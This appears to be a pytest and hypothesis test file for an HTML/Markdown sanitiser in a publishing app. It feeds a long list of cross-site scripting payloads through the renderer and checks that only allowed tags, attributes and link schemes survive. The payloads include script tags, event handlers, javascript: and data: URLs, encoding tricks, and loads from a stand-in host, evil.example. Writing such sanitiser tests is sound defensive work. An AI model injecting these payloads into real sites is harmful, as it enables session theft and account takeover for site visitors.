"""Whatever stands in a source, only the elements, attributes and addresses of a text come out on a page."""

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.core.markup import short_html
from apps.core.passages import Cut, cut_html, cut_markdown
from apps.library.publishing import inner_of
from apps.library.render import text_html
from apps.library.rows import PassageRow, VoiceRow
from tests.core import texts
from tests.markup import Element, read

ALLOWED = {
    "a": {"class", "href", "aria-label", "rel"},
    "blockquote": set(),
    "br": set(),
    "code": set(),
    "div": {"class", "id", "data-uid", "data-label", "role", "tabindex", "aria-label"},
    "em": set(),
    "figcaption": set(),
    "figure": set(),
    "li": {"id", "data-uid", "class"},
    "ol": {"start"},
    "p": {"id", "data-uid", "class"},
    "span": {"class", "id"},
    "strong": set(),
    "sub": set(),
    "sup": set(),
    "table": set(),
    "tbody": set(),
    "td": set(),
    "th": {"scope"},
    "thead": set(),
    "tr": {"id", "data-uid", "class"},
    "ul": set(),
    **{f"h{level}": {"id", "data-uid", "class"} for level in range(2, 7)},
}
SCHEMES = ("https://", "http://", "mailto:", "/", "#")

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<p onclick="alert(1)" style="position:fixed" class="site-head" id="main">x</p>',
    '<div hx-get="/admin/" hx-trigger="load" data-hx-post="/x" hx-on:click="alert(1)" data-hx-on--load="x">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:x" target="_top" download ping="//evil.example">x</a>',
    '<a href="https://a.example" onmouseover="alert(1)" style="color:red" class="pn" id="p1">x</a>',
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></p><script>alert(1)</script></mtext></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/><meta http-equiv=refresh content=0>",
    "<form action=//evil.example/><input name=q><button formaction='javascript:alert(1)'>x</button></form>",
    "<object data=x></object><embed src=x><video src=x onerror=alert(1)></video><portal src=x></portal>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?php x ?>",
    "</p></div></main></body></html><script>alert(1)</script>",
    "<textarea></textarea><title></title><plaintext><xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    '[x](https://a.example" onmouseover="alert(1))',
    "[x](https://a.example'onmouseover='alert(1))",
    '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x][y]\n\n[y]: https://a.example "\' onclick=alert(1)"',
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](https://a.example/b.png)',
    "![<script>alert(1)</script>](x)",
    "<javascript:alert(1)>",
    "<javascript://%0aalert(1)>",
    "<data:text/html,x>",
    '<a@b.example"onclick="alert(1)>',
    "[[x](javascript:alert(1))](https://a.example)",
    "[a](https://a.example/<script>alert(1)</script>)",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    '!!! note "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>',
    '!!! note onclick "x"\n    y',
    "a|<script>\n-|-\n<img src=x onerror=alert(1)>|b",
    "> x\n>\n> — <script>alert(1)</script>, <img src=x onerror=alert(1)>",
    "klzzwxh:0001 \x02klzzwxh:0000\x03 \x02amp\x03 \x1160\x12",
    "\x11\x13\x12\x14<em>",
]


def check(element: Element) -> None:
    assert element.tag in ALLOWED, element
    assert set(element.attributes) <= ALLOWED[element.tag], element
    if "href" in element.attributes:
        assert element.attributes["href"].startswith(SCHEMES), element
    for name in ("class", "id", "data-uid", "role", "scope", "start", "rel"):
        assert not set("<>\"'&") & set(element.attributes.get(name, "")), element


def drawn(cut: Cut) -> str:
    """The text as a page shows it, with every passage shown and each voice known."""
    return text_html(
        [
            PassageRow(
                number=block.number,
                uid=f"uid{block.number}",
                kind=block.kind,
                level=block.level,
                ordinal=block.ordinal,
                html=inner_of(block.text, block.marks),
                voice=VoiceRow(1, block.voice, "") if block.voice else None,
                attribution=block.attribution,
                flags=list(block.flags),
            )
            for block in cut.blocks
        ],
        prefix="a.",
        heading_shift=1,
    )


def check_page(html: str) -> None:
    shown = read(html)
    for element in shown.elements:
        check(element)
    ids = [element.attributes["id"] for element in shown.elements if "id" in element.attributes]
    assert len(ids) == len(set(ids))


hostile = st.lists(st.one_of(texts.everything, st.sampled_from(HOSTILE), st.sampled_from(HOSTILE)), max_size=8)
either = pytest.mark.parametrize("cut", [cut_markdown, cut_html])


@either
@pytest.mark.parametrize("source", HOSTILE)
def test_no_attack_gets_through(source: str, cut: Callable[[str], Cut]) -> None:
    check_page(drawn(cut(source)))
    check_page(drawn(cut(f"Before {source} after\n\n- {source}\n\n> {source}\n")))


@either
@given(source=hostile.map("".join))
def test_no_mixture_of_attacks_gets_through(source: str, cut: Callable[[str], Cut]) -> None:
    check_page(drawn(cut(source)))


@given(hostile.map("\n".join))
def test_nor_through_short_texts(source: str) -> None:
    for element in read(short_html(source)).elements:
        check(element)


@pytest.mark.parametrize("source", [source for source in HOSTILE if "<script" in source.lower()[:9]])
def test_in_markdown_html_is_text_that_can_be_read(source: str) -> None:
    assert "script" in read(drawn(cut_markdown(source))).text.lower()


@pytest.mark.parametrize(
    "href",
    ["https://a.example/?b=1&c=2#d", "http://a.example", "mailto:a@b.example", "/articles/x/", "#p3"],
)
@either
def test_honest_links_stay(href: str, cut: Callable[[str], Cut]) -> None:
    source = f"[x](<{href}>)" if cut is cut_markdown else f'<a href="{href}">x</a>'
    (number, link) = (e for e in read(drawn(cut(source))).elements if e.tag == "a")
    assert number.attributes["href"] == "#a.p1"
    assert link.attributes["href"] == href
